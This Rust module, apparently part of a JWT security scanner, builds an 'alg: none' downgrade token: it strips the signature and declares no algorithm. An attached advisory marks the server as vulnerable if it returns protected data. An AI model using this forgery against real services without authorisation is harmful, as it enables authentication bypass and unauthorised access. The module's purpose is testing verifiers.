//! Algorithm downgrade (`alg: none`).
//!
//! Rewrites the header to declare no signature algorithm and strips the
//! signature. A verifier that honours the token's own `alg` field will
//! accept any claims an attacker writes.

use serde::Serialize;
use serde_json::Value;
use tracing::debug;

use super::{Advisory, encode_unsigned};
use crate::core::codec::decode_token;
use crate::error::ProbeError;

pub const DOWNGRADE_ADVISORY: Advisory = Advisory {
    expected: "401 Unauthorized (token rejected)",
    vulnerable_if: "Returns protected data",
};

/// Result of an algorithm downgrade.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct AlgorithmDowngrade {
    /// The `alg` value before the downgrade, if the header had one.
    pub original_algorithm: Option<Value>,
    /// The unsigned token.
    pub token: String,
    pub advisory: Advisory,
}

/// Produce an unsigned copy of `token` with the payload left untouched.
///
/// # Errors
///
/// Returns an error if `token` cannot be decoded.
pub fn downgrade_algorithm(token: &str) -> Result<AlgorithmDowngrade, ProbeError> {
    let decoded = decode_token(token)?;
    let original_algorithm = decoded.header.get("alg").cloned();
    debug!(?original_algorithm, "downgrading algorithm to none");

    Ok(AlgorithmDowngrade {
        original_algorithm,
        token: encode_unsigned(decoded)?,
        advisory: DOWNGRADE_ADVISORY,
    })
}
